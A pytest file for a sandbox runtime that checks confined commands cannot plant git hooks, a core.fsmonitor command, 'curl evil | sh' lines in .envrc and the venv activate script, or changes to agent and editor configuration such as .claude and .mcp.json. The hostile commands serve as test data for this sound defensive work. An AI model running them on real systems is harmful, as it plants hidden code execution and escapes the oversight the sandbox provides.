"""What a confined command writes inside the workspace and something runs later, outside the sandbox, is kept
read-only whether or not the policy names it: git's hooks and settings (a `pre-commit` hook, `core.fsmonitor`
— git-config(1): a command `git status` runs), `.gitmodules`, an editor's project folder, an agent's project
configuration and MCP servers (the list anthropic-experimental/sandbox-runtime keeps from every write:
DANGEROUS_FILES, .git/hooks, .git/config). A mount only stops its own path being renamed, so the folders that
hold a kept path are pinned: `mv .git x; git init` made a new .git with hooks of the command's choosing.
Real processes through the runtime's bash tool; git itself keeps working (objects, index and refs)."""

from __future__ import annotations

import pytest

from dshc.runtime import sandbox
from dshc.runtime.sandbox import Confinement, Probe, confinement_in, plan
from dshc.runtime.sandbox.confine import RUN_LATER, pinned

PROBE = sandbox.probe()
needs_namespaces = pytest.mark.skipif(
    PROBE.landlock_abi < 1 or not PROBE.network_namespace, reason="needs Landlock and unprivileged user namespaces"
)
needs_bwrap = pytest.mark.skipif(PROBE.bwrap is None, reason="needs bubblewrap")


@pytest.fixture
def run(run_bash):
    return run_bash


ATTACKS = (
    "echo 'touch pwned' > .git/hooks/pre-commit; echo hook=$?; "
    "git config core.fsmonitor 'touch pwned'; echo config=$?; "
    "mv .git/hooks h; echo mvhooks=$?; rm -rf .git/hooks; echo rmhooks=$?; "
    "mv .git moved; echo mvgit=$?; "
    "echo b > b.txt && git add b.txt && git -c user.email=t@example.com -c user.name=t commit -qm two; "
    "echo commit=$?"
)


def _refused(output: str, *steps: str) -> None:
    for step in steps:
        assert f"{step}=0" not in output, (step, output)


@needs_namespaces
def test_git_hooks_and_settings_cannot_be_planted_and_git_still_commits(run, repo, git):
    output = run(ATTACKS)
    _refused(output, "hook", "config", "mvhooks", "rmhooks", "mvgit")
    assert "commit=0" in output, output
    assert not (repo / ".git" / "hooks" / "pre-commit").exists() and not (repo / "moved").exists()
    assert "fsmonitor" not in (repo / ".git" / "config").read_text()
    assert git(repo, "log", "--format=%s").split() == ["two", "one"]


@needs_bwrap
def test_bubblewrap_keeps_them_too(run, repo):
    output = run(ATTACKS, sandbox_backend="bwrap")
    _refused(output, "hook", "config", "mvhooks", "rmhooks", "mvgit")
    assert "commit=0" in output, output
    assert not (repo / ".git" / "hooks" / "pre-commit").exists() and not (repo / "moved").exists()


@needs_namespaces
def test_agent_and_editor_configuration_is_kept(run, workspace):
    for folder in (".vscode", ".claude", ".codex"):
        (workspace / folder).mkdir()
    for name in (".mcp.json", ".gitmodules"):
        (workspace / name).write_text("{}")
    output = run(
        "echo '{}' > .vscode/tasks.json; echo tasks=$?; echo x > .claude/settings.local.json; echo claude=$?; "
        "echo x > .codex/config.toml; echo codex=$?; echo x > .mcp.json; echo mcp=$?; "
        "rm -f .gitmodules; echo gitmodules=$?; mv .vscode v; echo mvvscode=$?; "
        "mkdir .idea && echo x > .idea/workspace.xml; echo idea=$?"
    )
    _refused(output, "tasks", "claude", "codex", "mcp", "gitmodules", "mvvscode")
    # a missing one is not made (it would appear in every project): it is the rules' alone
    assert "idea=0" in output, output
    assert (workspace / ".mcp.json").read_text() == "{}" and (workspace / ".gitmodules").exists()
    assert sorted(p.name for p in (workspace / ".claude").iterdir()) == []


@needs_namespaces
def test_a_folder_holding_a_protected_path_cannot_be_moved_aside(run, workspace):
    (workspace / "config" / "secrets").mkdir(parents=True)
    output = run(
        "mv config c2; echo mv=$?; mkdir -p config/secrets; echo x > config/secrets/k; echo planted=$?; "
        "echo x > config/other; echo other=$?",
        protected_roots=("config/secrets/",),
    )
    _refused(output, "mv", "planted")
    assert "other=0" in output and not (workspace / "c2").exists(), output


def absent(**found) -> Probe:
    return Probe(
        **{
            "platform": "linux",
            "landlock_abi": 3,
            "network_namespace": True,
            "bwrap": None,
            "sandbox_exec": None,
            "seccomp": True,
            **found,
        }
    )


def test_only_what_exists_is_listed_and_each_mechanism_is_told(tmp_path):
    ws = tmp_path / "ws"
    (ws / ".git" / "hooks").mkdir(parents=True)
    (ws / ".git" / "config").write_text("")
    (ws / ".mcp.json").write_text("{}")
    conf = confinement_in("workspace-write", str(ws), "/tmp/t")
    assert set(conf.run_later) == {f"{ws}/.git/hooks", f"{ws}/.git/config", f"{ws}/.mcp.json"}
    assert set(RUN_LATER) >= {".git/hooks", ".git/config", ".claude", ".vscode"}
    (tmp_path / "lib" / ".vscode").mkdir(parents=True)  # a writable root the policy adds holds them too
    assert (
        f"{tmp_path}/lib/.vscode"
        in confinement_in("workspace-write", str(ws), "/tmp/t", writable=(str(tmp_path / "lib"),)).run_later
    )
    launch = plan(conf, ["/bin/true"], 3, absent())
    assert {f"!{ws}/.git/hooks", f"!{ws}/.git/config", f"!{ws}/.mcp.json", f"+{ws}/.git"} <= set(launch.argv)
    assert launch.argv.index(f"+{ws}/.git") < launch.argv.index("--")
    # without a mount namespace they are not a reason to refuse: the policy did not ask for them
    bare = plan(
        confinement_in("workspace-write", str(ws), "/tmp/t", network=True),
        ["/bin/true"],
        3,
        absent(network_namespace=False),
    )
    assert bare.mechanism == "landlock" and not any(word.startswith(("!", "+")) for word in bare.argv)
    bwrap = plan(
        confinement_in("workspace-write", str(ws), "/tmp/t", backend="bwrap"),
        ["/bin/true"],
        3,
        absent(bwrap="/usr/bin/bwrap"),
    )
    at = bwrap.argv.index("--bind-try")
    assert bwrap.argv[at : at + 3] == ["--bind-try", f"{ws}/.git", f"{ws}/.git"]
    assert at < bwrap.argv.index(f"{ws}/.git/hooks")  # pinned first, kept read-only inside it
    # read-only mode writes nowhere in the workspace: nothing to keep
    assert (
        plan(confinement_in("read-only", str(ws), "/tmp/t"), ["/bin/true"], 3, absent()).mechanism == "landlock+netns"
    )


def test_the_folders_between_a_root_and_a_kept_path_are_pinned_shallowest_first():
    assert pinned(("/ws", "/tmp/t"), ("/ws/a/b/c/", "/ws/.git/hooks", "/ws/top", "/elsewhere/x/y")) == (
        "/ws/a",
        "/ws/.git",
        "/ws/a/b",
    )
    assert pinned(("/ws/",), ("/ws/.claude/",)) == ()
    assert Confinement("read-only", "/ws", "/tmp/t").read_only(run_later=True) == ()


@needs_namespaces
def test_what_a_shell_runs_on_entering_or_activating_the_project_is_kept(run, workspace):
    # direnv runs `.envrc` on `cd`; `source .venv/bin/activate` runs its script in the user's own shell
    (workspace / ".envrc").write_text("export A=1\n")
    (workspace / ".venv" / "bin").mkdir(parents=True)
    (workspace / ".venv" / "bin" / "activate").write_text("# activate\n")
    output = run(
        "echo 'curl evil | sh' >> .envrc; echo envrc=$?; echo 'curl evil | sh' >> .venv/bin/activate; "
        "echo activate=$?; mv .venv/bin b; echo mvbin=$?; echo '#!/bin/sh' > .venv/bin/pytest; echo script=$?"
    )
    _refused(output, "envrc", "activate", "mvbin")
    # the rest of the environment is what `pip install` writes
    assert "script=0" in output, output
    assert (workspace / ".envrc").read_text() == "export A=1\n"
    assert (workspace / ".venv" / "bin" / "activate").read_text() == "# activate\n"
